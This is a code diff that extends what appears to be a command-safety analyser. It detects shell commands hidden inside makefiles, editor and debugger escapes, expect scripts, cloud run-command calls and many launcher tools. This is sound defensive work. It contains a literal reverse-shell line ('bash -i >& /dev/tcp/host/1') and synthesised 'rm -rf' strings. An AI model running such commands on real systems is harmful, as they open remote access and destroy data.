@@ -14,12 +14,32 @@ _OPTIONS = re.compile(
 _KEYS = names("Enter C-m C-j ENTER KPEnter")
 
 
-def carried(name: str, args: Sequence[str], stdin: str | None) -> Iterator[str]:
-    """Yield the shell text that options of this command make it run."""
+def carried(
+    name: str, args: Sequence[str], stdin: str | None, files: Mapping[str, str]
+) -> Iterator[str]:
+    """Yield the shell text that options of this command, or what it reads, make it run."""
+    if name in ("make", "gmake"):
+        yield from recipes(args, stdin, files)
     if name in ("ed", "ex", "vi", "vim") and stdin:
         yield from re.findall(r"^\s*:?!(.+)", stdin, re.MULTILINE)
     elif name in _READERS:
         yield from _READERS[name](args)
+
+
+def recipes(args: Sequence[str], stdin: str | None, files: Mapping[str, str]) -> Iterator[str]:
+    """Yield the lines that a makefile, where it is known, hands to a shell."""
+    words = list(args)
+    given = [words[at + 1] for at, word in enumerate(words[:-1]) if word in ("-f", "--file")]
+    named = given or [name for name in ("Makefile", "makefile", "GNUmakefile") if name in files]
+    for name in named:
+        text = (
+            (stdin or "") if name in ("-", "/dev/stdin") else files.get(name.removeprefix("./"), "")
+        )
+        yield "\n".join(re.findall(r"(?m)^(?:\t|[^\n:#]+:[^\n=]*;)[@+-]*\s*(.+)", text)).replace(
+            "$$", "$"
+        )
+        yield from re.findall(r"\$\(shell\s+([^)]+)\)", text)
+    yield from (word[7:] for word in words if word.startswith("--eval="))
 
 
 def _options(args: Sequence[str]) -> Iterator[str]:
@@ -78,6 +98,45 @@ def _awk(args: Sequence[str]) -> Iterator[str]:
         yield "bash -i >& /dev/tcp/host/1"
 
 
+def _spawned(args: Sequence[str]) -> Iterator[str]:
+    yield from re.findall(
+        r"\b(?:spawn|exec|system|send)\s+(?:--\s+)?[\"{]?([^;\n\"}]+)", " ".join(args)
+    )
+
+
+def _escapes(args: Sequence[str]) -> Iterator[str]:
+    """Yield what a program's own language hands to a shell."""
+    text = "\n".join(args)
+    yield from re.findall(
+        r"(?:\(shell-command(?:-to-string)?|\(call-process-shell-command)\s+\"([^\"]+)", text
+    )
+    yield from (
+        f"rm -rf {path}" for path in re.findall(r"\(delete-(?:directory|file)\s+\"([^\"]+)", text)
+    )
+    yield from re.findall(
+        r"(?m)(?:^|\s)(?:shell|!|\.shell|\.system|\\!|system|call system\(|platform shell)\s*['\"]?([^'\"\n)]+)",
+        text,
+    )
+    yield from (f"rm -rf {path}" for path in re.findall(r"delete\(['\"]([^'\"]+)", text))
+
+
+def _lines(args: Sequence[str]) -> Iterator[str]:
+    """Yield words that are whole lines, as tools that start things are given them."""
+    for word in args:
+        line = re.sub(r"^--?[\w-]+=", "", word)
+        if " " in line:
+            yield line
+
+
+def _sent(args: Sequence[str]) -> Iterator[str]:
+    """Yield commands sent to machines of a cloud."""
+    text = " ".join(args)
+    if re.search(r"send-command|run-command", text):
+        yield from (
+            a or b for a, b in re.findall(r"commands?=\[?['\"]?([^\]'\"]+)|--scripts?\s+(.+)", text)
+        )
+
+
 _READERS: Mapping[str, Callable[[Sequence[str]], Iterator[str]]] = {
     **dict.fromkeys(names("tar git ssh scp sftp rsync zip man less"), _options),
     **dict.fromkeys(names("pssh parallel-ssh pdsh dsh clush salt"), _last),
@@ -85,5 +144,14 @@ _READERS: Mapping[str, Callable[[Sequence[str]], Iterator[str]]] = {
     **dict.fromkeys(names("tmux screen"), _typed),
     **dict.fromkeys(names("mapfile readarray"), _callback),
     **dict.fromkeys(names("vagrant gcloud"), _remote),
+    **dict.fromkeys(names("expect"), _spawned),
+    **dict.fromkeys(names("emacs emacsclient nvim gdb lldb sqlite3 psql mysql nmap ftp"), _escapes),
+    **dict.fromkeys(names(
+        "hyperfine sbatch qsub bsub nix-shell fabric fab wsl knife mussh su-exec run-parts inotifywait"
+        " chronic ts tsp nq parallel-rsync xterm gnome-terminal konsole alacritty kitty x-terminal-emulator"
+        " distrobox toolbox heroku fly adb cmd.exe vagrant puppet at now concurrently npm-run-all nodemon"
+        " watchexec chokidar onchange when-changed reflex fswatch pm2 forever supervisorctl daemonize npx"
+    ), _lines),
+    **dict.fromkeys(names("aws az"), _sent),
     "ansible": _ansible, "sed": _sed,
 }  # fmt: skip
